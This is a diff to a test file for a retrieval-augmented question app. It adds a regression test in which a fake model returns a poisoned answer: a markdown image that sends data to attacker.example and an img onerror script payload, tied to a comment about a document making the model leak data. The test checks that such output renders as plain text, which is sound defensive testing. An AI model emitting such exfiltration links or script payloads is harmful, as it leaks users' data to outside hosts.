@@ -88,7 +88,7 @@ def test_answer_with_a_rag_prompt(fake_model):
     at.text_input(key="rag_question").set_value("When can annual plans be refunded?")
     at.button(key="rag_search").click().run()
     assert not at.exception
-    assert "Within 14 days." in [m.value for m in at.markdown]
+    assert "Within 14 days." in [c.value for c in at.code]
     assert "Question: When can annual plans be refunded?" in fake_model.history[0]["messages"][0]["content"]
 
 
@@ -138,3 +138,18 @@ def test_progress_bar_while_the_build_runs():
         index.manager().wait(version_id, timeout=30)
     at.run()
     assert "docs@1 is ready" in texts(at.success)
+
+
+def test_a_poisoned_answer_is_shown_as_text_not_markdown(fake_model):
+    # issue 17: a document can make the model emit an image whose URL carries data out
+    index.build_index("docs", "sample")
+    prompts.save_version("rag", template="Context:\n{{ context }}\nQuestion: {{ question }}", model="fake/model")
+    poisoned = "Sure. ![](http://attacker.example/?d=refund-policy) <img src=x onerror=alert(1)>"
+    fake_model.queue(poisoned)
+    at = AppTest.from_file(PAGE, default_timeout=30).run()
+    at.selectbox(key="rag_query_prompt").set_value("rag@1")
+    at.text_input(key="rag_question").set_value("When can annual plans be refunded?")
+    at.button(key="rag_search").click().run()
+    assert not at.exception
+    assert poisoned in [c.value for c in at.code]
+    assert not any("attacker.example" in m.value for m in at.markdown)
